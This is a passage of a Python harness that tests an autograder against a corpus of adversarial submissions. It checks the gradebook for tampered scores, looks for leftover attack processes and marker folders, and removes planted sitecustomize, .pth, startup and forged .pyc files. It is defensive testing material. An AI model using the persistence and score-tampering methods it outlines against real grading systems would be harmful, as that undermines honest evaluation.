    found: dict[str, list[Path]] = {}
    for folder in map(Path, corpus.marker_dirs):
        if folder.is_dir():
            files = list(folder.iterdir())
            for path in files:
                found.setdefault(path.name.rsplit("-", 1)[0], []).append(path)
            if not files:
                found.setdefault("(an empty marker folder)", []).append(folder)
    return [f"{label}: {len(paths)} file(s), pids "
            f"{', '.join(sorted({p.name.rsplit('-', 1)[-1] for p in paths}))}, in "
            f"{', '.join(sorted({str(p.parent) for p in paths}))}"
            for label, paths in sorted(found.items())]


def attack_processes(corpus: Corpus) -> list[tuple[int, str]]:
    """Live processes an attack started (its mark in their argv, or its name as their comm)."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                cmdline = handle.read().replace(b"\0", b" ").decode(errors="replace")
            comms = []
            for task in os.listdir(f"/proc/{entry}/task"):
                with open(f"/proc/{entry}/task/{task}/comm") as handle:
                    comms.append(handle.read().strip())
        except OSError:
            continue
        if corpus.attack_mark in cmdline or corpus.comm in comms:
            found.append((int(entry), (cmdline or "[" + ",".join(comms) + "]")[:120]))
    return found


def wait_for_no_attack_processes(corpus: Corpus, seconds: float = 10.0):
    deadline = time.monotonic() + seconds
    while True:
        found = attack_processes(corpus)
        if not found or time.monotonic() > deadline:
            return found
        time.sleep(0.5)


def start_sentinel(corpus: Corpus) -> subprocess.Popen:
    """A process outside the sandbox that no submission may be able to kill (or see)."""
    return subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)",
                             corpus.sentinel_mark], stdin=subprocess.DEVNULL,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def read_gradebook(path: Path) -> tuple[list[str], list[dict]]:
    with open(path, newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


def check_rows(rows: list[dict], corpus: Corpus) -> list[str]:
    """What is wrong with the gradebook rows: a missing or unexpected student, a score that is
    not the expected one (a blank score counts as 0 for an attacker: nothing was credited), a
    total that is not the sum, a time-limit row that ran too long or does not name the limit."""
    problems = []
    by_student = {row.get("student"): row for row in rows}
    for student in sorted(set(by_student) - set(corpus)):
        problems.append(f"unexpected row {student!r}")
    for student, facts in corpus.items():
        row = by_student.get(student)
        if row is None:
            problems.append(f"{student}: no row ({facts['attack']})")
            continue
        wrong = []
        for key, want in facts["scores"].items():
            text = (row.get(key) or "").strip()
            if text == "" and facts["kind"] == "attack":
                got = 0.0
            else:
                try:
                    got = float(text)
                except ValueError:
                    wrong.append(f"{key}={text!r} (want {want:g})")
                    continue
            if abs(got - want) > 0.0015:
                wrong.append(f"{key}={got:g} (want {want:g})")
        try:
            total = float(row.get("total") or 0)
        except ValueError:
            total = float("nan")
        if not wrong and not abs(total - sum(facts["scores"].values())) <= 0.005:
            wrong.append(f"total={row.get('total')!r} (want {sum(facts['scores'].values()):g})")
        if wrong:
            problems.append(f"{student}: " + ", ".join(wrong) + f" [{row.get('status')}] -- "
                            f"{facts['attack']}; note: {(row.get('note') or '')[:300]}")
        if "note_contains" in facts and facts["note_contains"] not in (row.get("note") or ""):
            problems.append(f"{student}: the note does not state the limit "
                            f"({facts['note_contains']!r}): {row.get('note')!r}")
        if "max_seconds" in facts:
            try:
                seconds = float(row.get("duration_s") or "inf")
            except ValueError:
                seconds = float("inf")
            if seconds > facts["max_seconds"]:
                problems.append(f"{student}: held the batch {row.get('duration_s')} s "
                                f"(more than {facts['max_seconds']:g} s)")
    return problems


def cleanup(corpus: Corpus, before: dict) -> list[str]:
    """Undo what the attacks could do outside the grading output: kill their processes, remove
    their marker folders, the files they planted (sitecustomize/.pth/startup files holding the
    token, non-genuine .pyc files in the course). Returns what it did."""
    done = []
    for pid, cmdline in attack_processes(corpus):
        try:
            os.kill(pid, signal.SIGKILL)
            done.append(f"killed {pid} ({cmdline[:60]})")
        except OSError:
            pass
    for folder in corpus.marker_dirs + [str(p) for p in Path("/tmp").glob(
            f"course-attack-{corpus.token}-*")]:
        if Path(folder).is_dir():
            shutil.rmtree(folder, ignore_errors=True)
            done.append(f"removed {folder}")
    candidates = [p for d in [ROOT] + _site_dirs() if d.is_dir() for p in d.iterdir()
                  if p.name in ("sitecustomize.py", "usercustomize.py") or p.suffix == ".pth"]
    candidates += [p for d in _startup_dirs() if d.is_dir() for p in d.iterdir()]
    candidates += [d / name for d in _forge_dirs() + [ROOT] for name in FORGED_NAMES]
    for path in candidates:
        try:
            if path.is_file() and corpus.token in path.read_text(errors="ignore"):
                path.unlink()
                done.append(f"removed {path}")
        except OSError:
            pass
    for path in sorted((ROOT / "utils").rglob("__pycache__/*.pyc")):
        if not _genuine_pyc(path):
            label = f"course:utils/{path.relative_to(ROOT / 'utils')}"
            if before.get(label) != snapshot_digest(path):
                path.unlink(missing_ok=True)
                done.append(f"removed {path}")
    return done


def snapshot_digest(path: Path) -> str:
    try:
        return hashlib.sha256(path.read_bytes()).hexdigest()
    except OSError:
        return "unreadable"


def grade_args(submissions: Path, private: Path, out: Path, feedback: Path) -> list[str]:
    return [str(submissions), "--lesson", LESSON, "--out", str(out), "--workers", "2",
            "--cell-timeout", "30", "--timeout", "300", "--tests", str(private),
            "--feedback-dir", str(feedback)]


# ============================================================================ by hand

def main(argv=None) -> int:
    """Grade the corpus with ``utils.grade`` (whatever it is now) and report per attack."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("out", type=Path, help="a new folder for the corpus and the gradebook")
    parser.add_argument("--only", help="comma-separated student-name prefixes, e.g. s05,s12")
    parser.add_argument("--grader-args", default="", help="more arguments for utils.grade")
    args = parser.parse_args(argv)
    sys.path.insert(0, str(ROOT))
    from utils import grade

    corpus = build(args.out / "submissions")
    if args.only:
        keep = tuple(args.only.split(","))
        for student in [s for s in corpus if not s.startswith(keep)]:
            facts = corpus.pop(student)
            shutil.rmtree(facts["file"].parent) if facts["file"].parent != corpus.folder \
                else facts["file"].unlink()
    private = args.out / "private"
    write_private_tests(private)
    before = snapshot(corpus, [private])
    sentinel = start_sentinel(corpus)
    out, feedback = args.out / "grades.csv", args.out / "feedback"
    start = time.monotonic()
    code = grade.main(grade_args(corpus.folder, private, out, feedback)
                      + args.grader_args.split())
    elapsed = time.monotonic() - start
    left = wait_for_no_attack_processes(corpus)
    sentinel_alive = sentinel.poll() is None
    after = snapshot(corpus, [private])
    found_markers = markers(corpus)
    print(f"\n== exit code {code}, {elapsed:.0f} s for {len(corpus)} submissions")
    columns, rows = read_gradebook(out) if out.exists() else ([], [])
    print("== columns:", columns)
    by_student = {r["student"]: r for r in rows}
    for student, facts in corpus.items():
        row = by_student.get(student)
        if row is None:
            print(f"{student:36s} NO ROW")
            continue
        got = {k: row.get(k, "") for k in facts["scores"]}
        raised = [k for k, v in got.items() if v not in ("",) and float(v) > facts["scores"][k]
                  + 0.0015]
        lowered = [k for k, v in got.items() if (float(v) if v else 0.0) < facts["scores"][k]
                   - 0.0015]
        verdict = ("RAISED " + ",".join(raised) if raised else "") + (
            " LOWERED " + ",".join(lowered) if lowered else "") or "ok"
        print(f"{student:36s} {row['status']:8s} {row['duration_s']:>6s}s total={row['total']:>5s}"
              f" {verdict}  | {row['note'][:200]}")
    print("== problems:\n  " + "\n  ".join(check_rows(rows, corpus) or ["none"]))
    print("== changed files:\n  " + "\n  ".join(changed_files(before, after) or ["none"]))
    print("== markers:\n  " + "\n  ".join(found_markers or ["none"]))
    print("== attack processes left:\n  " + "\n  ".join(
        f"{p} {c}" for p, c in left) if left else "== attack processes left: none")
    print("== sentinel alive:", sentinel_alive)
    sentinel.kill()
    print("== cleanup:\n  " + "\n  ".join(cleanup(corpus, before) or ["nothing"]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
